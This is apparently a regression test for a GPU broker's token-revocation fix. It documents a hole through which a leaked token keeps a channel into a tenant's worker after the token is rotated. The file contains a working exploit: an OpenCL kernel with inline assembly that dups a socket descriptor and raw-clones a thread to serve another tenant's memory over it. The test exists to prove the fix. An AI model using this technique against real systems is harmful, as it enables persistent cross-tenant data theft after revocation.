"""A revoked token's link keeps reading the tenant's memory: revocation of a link is asked of the worker, and the
worker runs the token holder's code.

The hole: a link on ``<socket>.fast`` is handed whole to the tenant's worker (``_links._hand_over``: the front
closes its own descriptor once the worker has its copy). At a rotation or removal the front *asks* the worker to
close the session's links (``CloseLinks``), and a rotation keeps the tenant's worker. But the worker runs whatever
the holder of the token ran in it: a kernel (native code on PoCL) that has ``dup``'d its link's descriptor and left
a thread serving it (``clone(CLONE_THREAD)`` is allowed) keeps that connection alive when the worker's own copy is
closed. So whoever held a leaked token for one kernel launch keeps a channel into the tenant's worker, and all the
memory of every later session of the tenant on that device, after the tenant has rotated the token: "act after
revocation", against the docs' "rotating or removing a token closes, at the reload, every channel it authenticated".

The attack here: bob's token leaks to mallory. Mallory opens a link on bob's session with it, and launches a kernel
that dups the worker's descriptor of that link and starts a thread (raw clone, 30 instructions of asm) answering
each byte read on it with 16 bytes of bob's buffer (its address handed over by the test, as the other attacks'
are). Bob rotates his token; the broker reloads; bob writes a new secret into his buffer through a link of his new
token. Mallory writes one byte on her old link and reads the new secret.

Measured (2-core VM, PoCL, defaults): after the reload the worker dropped its descriptor of the link (gone from
/proc/<worker>/fd), but mallory's socket was not hung up, and it returned bob's post-rotation secret (16 x 0x5a)
at once (under 10 ms) after she asked.

The fix (front/_retire.py): the front does not ask the worker. Every worker that ran anything for a credential (a
session opened, a call run, a link or segment connection attached) holds a revocation watch for it, and at the
reload that revokes it the front kills the worker: the kernel closes every descriptor it held, the planted thread's
dup included, so mallory's link is hung up at once. Bob's sessions on it end saying why; the kill is not charged as
his crash (a crash budget of one here would refuse his next session); his next session gets a fresh worker.
"""

from __future__ import annotations

import os
import re
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator

import msgspec
import numpy as np
import pytest

from gpubroker.broker.launcher import BrokerProcess, TenantSpec
from gpubroker.client import AdminClient, ModuleFormat, WorkerCrashed, connect
from gpubroker.wire.commands import Batch, Memset, decode_ack, encode
from gpubroker.wire.errors import WireError, error_from_wire
from gpubroker.wire.frames import pack_frame, recv_frame

from ..conftest import worker_pids
from ..helpers import wait_for
from .exploits import SYSCALL_SOURCE, VICTIM_SOURCE, buffer_address, check_arch

SECRET = 0x5A
LENGTH = 16

PLANT_SOURCE = SYSCALL_SOURCE + r"""
/* A thread of the worker's (clone with CLONE_VM|FS|FILES|SIGHAND|THREAD|SYSVSEM) on its own stack, in registers
   only: for each byte read on `fd`, write `len` bytes from `addr` on it; at end of file, close it and exit. */
static long plant(long fd, long addr, long len, long stack_top) {
    long r;
    __asm__ volatile(
        "mov %1, %%r12\n\t"
        "mov %2, %%r13\n\t"
        "mov %3, %%r14\n\t"
        "mov %4, %%rsi\n\t"
        "mov $0x50f00, %%edi\n\t"
        "xor %%edx, %%edx\n\t"
        "xor %%r10d, %%r10d\n\t"
        "xor %%r8d, %%r8d\n\t"
        "mov $56, %%eax\n\t"
        "syscall\n\t"
        "test %%rax, %%rax\n\t"
        "jnz 2f\n\t"
        "1:\n\t"
        "xor %%eax, %%eax\n\t"
        "mov %%r12, %%rdi\n\t"
        "lea -64(%%rsp), %%rsi\n\t"
        "mov $1, %%edx\n\t"
        "syscall\n\t"
        "cmp $-11, %%rax\n\t"              /* EAGAIN: the link is non-blocking, so poll(fd, POLLIN, -1) */
        "jne 4f\n\t"
        "mov %%r12d, -128(%%rsp)\n\t"
        "movl $1, -124(%%rsp)\n\t"
        "mov $7, %%eax\n\t"
        "lea -128(%%rsp), %%rdi\n\t"
        "mov $1, %%esi\n\t"
        "mov $-1, %%edx\n\t"
        "syscall\n\t"
        "jmp 1b\n\t"
        "4:\n\t"
        "test %%rax, %%rax\n\t"
        "jle 3f\n\t"
        "mov $1, %%eax\n\t"
        "mov %%r12, %%rdi\n\t"
        "mov %%r13, %%rsi\n\t"
        "mov %%r14, %%rdx\n\t"
        "syscall\n\t"
        "jmp 1b\n\t"
        "3:\n\t"
        "mov $3, %%eax\n\t"
        "mov %%r12, %%rdi\n\t"
        "syscall\n\t"
        "mov $60, %%eax\n\t"
        "xor %%edi, %%edi\n\t"
        "syscall\n\t"
        "2:\n\t"
        : "=a"(r)
        : "m"(fd), "m"(addr), "m"(len), "m"(stack_top)
        : "rdi", "rsi", "rdx", "r10", "r8", "r9", "r11", "rcx", "r12", "r13", "r14", "memory");
    return r;
}

__kernel void gpb_plant(__global long* out, const long fd, const long addr, const long len) {
    long stack = sys6(9, 0, 65536, 3, 0x22, -1, 0);      /* mmap: the thread's stack */
    long copy = sys6(32, fd, 0, 0, 0, 0, 0);              /* dup: the worker's close leaves this one */
    out[0] = stack;
    out[1] = copy;
    out[2] = -1;
    if ((stack < 0 && stack > -4096) || copy < 0) return;
    out[2] = plant(copy, addr, len, stack + 65536 - 256);
}
"""


@pytest.fixture(scope="module")
def broker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrokerProcess]:
    check_arch()
    tmp = tmp_path_factory.mktemp("revoked-link")
    tenants = [TenantSpec("ops", admin=True), TenantSpec("bob")]
    # A crash budget of one: were the retirement charged as bob's crash, his next session would be refused.
    settings = {"cache_dir": str(tmp / "caches"), "lease_seconds": 60.0, "tenant_crash_budget": 1,
                "tenant_crash_window_seconds": 600.0, "metrics_listen": "127.0.0.1:0"}
    with BrokerProcess(tenants, backend="opencl", settings=settings) as proc:
        yield proc


def open_link(broker: BrokerProcess, token: str, session: str) -> socket.socket:
    """A same-host link (``<socket>.fast``), its hello accepted by the front and answered by the worker."""
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(10)
    sock.connect(broker.target.removeprefix("unix:") + ".fast")
    sock.sendall(pack_frame({"token": token, "session": session, "link": 1}))
    _, status, result = recv_frame(sock)
    if status != 0:
        sock.close()
        raise error_from_wire(msgspec.convert(result, WireError))
    return sock


def rotate_and_reload(broker: BrokerProcess, tenant: str) -> str:
    """Rotate ``tenant``'s token in the broker's config and have an admin (``ops``) reload it; the new token."""
    new = subprocess.run([sys.executable, "-m", "gpubroker.broker.cli", "tenant", "rotate-token", tenant,
                          "--config", str(broker.config_path)], capture_output=True, text=True,
                         check=True).stdout.strip().splitlines()[-1]
    with AdminClient(broker.target, broker.tokens["ops"]) as admin:
        admin.reload()
    broker.tokens[tenant] = new
    return new


def socket_fds(pid: int) -> dict[int, str]:
    fds = {}
    for name in os.listdir(f"/proc/{pid}/fd"):
        try:
            target = os.readlink(f"/proc/{pid}/fd/{name}")
        except OSError:
            continue
        if target.startswith("socket:"):
            fds[int(name)] = target
    return fds


def hung_up(sock: socket.socket) -> bool:
    sock.setblocking(False)
    try:
        return sock.recv(1, socket.MSG_PEEK) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        sock.setblocking(True)


def hangs_up(sock: socket.socket, what: str, seconds: float = 5.0) -> bool:
    """Whether ``sock`` is hung up within ``seconds``."""
    try:
        wait_for(lambda: hung_up(sock), seconds, f"{what} to be hung up")
    except AssertionError:
        return False
    return True


def metric(broker: BrokerProcess, name: str, tenant: str) -> float:
    text = urllib.request.urlopen(broker.metrics_url, timeout=10).read().decode()
    found = re.search(rf'^{name}\{{tenant="{tenant}"\}} (\S+)$', text, re.MULTILINE)
    assert found is not None, f"{name} for {tenant} not in the metrics"
    return float(found.group(1))


def test_a_revoked_tokens_link_cannot_read_the_tenant_after_the_rotation(broker: BrokerProcess) -> None:
    old = broker.tokens["bob"]
    with connect(broker.target, token=old, timeout=60, transport="grpc", shared_memory=False) as bob:
        buf = bob.allocate_memory(4096)
        bob.memset(buf, 0x11, 4096)
        addr = buffer_address(bob, bob.get_kernel(bob.load_module(VICTIM_SOURCE, ModuleFormat.OPENCL_C), "gpb_addr"),
                              buf)
        (worker,) = worker_pids(broker, "bob")
        # Mallory, holding bob's leaked token: a link on bob's session, and one kernel launch.
        before = socket_fds(worker)
        link = open_link(broker, old, bob.session)
        wait_for(lambda: len(set(socket_fds(worker)) - set(before)) == 1, 10, "the worker to take the link")
        (link_fd,) = set(socket_fds(worker)) - set(before)
        with connect(broker.target, token=old, timeout=60, transport="grpc", shared_memory=False) as mallory:
            plant = mallory.get_kernel(mallory.load_module(PLANT_SOURCE, ModuleFormat.OPENCL_C), "gpb_plant")
            out = mallory.allocate_memory(64)
            mallory.execute_kernel(plant, 1, 1, [out, np.int64(link_fd), np.int64(addr), np.int64(LENGTH)])
            mallory.synchronize()
            planted = np.zeros(8, dtype=np.int64)
            mallory.copy_d2h(out, planted)
        print(f"\nthe worker's link descriptor {link_fd}; the kernel's stack {planted[0]:#x}, dup {planted[1]}, "
              f"thread {planted[2]}")
        assert planted[2] > 0, f"the thread was not started: {planted}"
        # Bob rotates his token and the broker reloads: every channel of the old token must be cut.
        new = rotate_and_reload(broker, "bob")
        # The front ends the worker that ran the old token's code (and with it every descriptor it held, the
        # planted thread's dup included): mallory's link is hung up, at once.
        cut = hangs_up(link, "the revoked token's link")
        got = b""
        if not cut:
            # Bob, with his new token, writes a new secret into his buffer (through a link of the new token), and
            # mallory asks on her revoked link.
            fresh = open_link(broker, new, bob.session)
            fresh.sendall(len(payload := encode(Batch(1, 0, [Memset((buf.handle, 0), SECRET, 4096)])))
                          .to_bytes(4, "big") + payload)
            length = int.from_bytes(fresh.recv(4, socket.MSG_WAITALL), "big")
            ack = decode_ack(fresh.recv(length, socket.MSG_WAITALL))
            assert ack.error is None, ack
            fresh.close()
            start = time.monotonic()
            link.sendall(b"?")
            link.settimeout(5)
            try:
                got = link.recv(LENGTH, socket.MSG_WAITALL)
            except OSError:
                pass
            print(f"the revoked link answered {got.hex()} in {time.monotonic() - start:.2f} s")
        link.close()
        assert cut, (f"the revoked token's link was not cut (the worker closed its descriptor; a thread of mallory's "
                     f"kept a dup) and it read bob's buffer after the rotation: {got.hex()}")
        wait_for(lambda: worker not in worker_pids(broker, "bob"), 10, "the retired worker to be gone")
        # Bob's old session says why it ended, to the new token too; it was not charged as a crash of bob's.
        with pytest.raises(WorkerCrashed, match=r"credential that used it was revoked \(token rotated\)"):
            open_link(broker, new, bob.session)
    assert metric(broker, "gpubroker_tenant_worker_crashes_total", "bob") == 0
    # Bob's next session (a crash budget of one would refuse it, had the retirement been charged) gets a fresh
    # worker, which mallory's old token reaches by no way.
    with connect(broker.target, token=new, timeout=60, transport="grpc", shared_memory=False) as bob:
        buf = bob.allocate_memory(4096)
        bob.memset(buf, SECRET, 4096)
        (fresh_worker,) = worker_pids(broker, "bob")
        assert fresh_worker != worker
    log = broker.log_path.read_text()
    assert "worker crash of its own" not in log
    assert "ended: no failure (retired: the worker for tenant 'bob' on device 0 was ended because the credential " \
           "that used it was revoked" in log
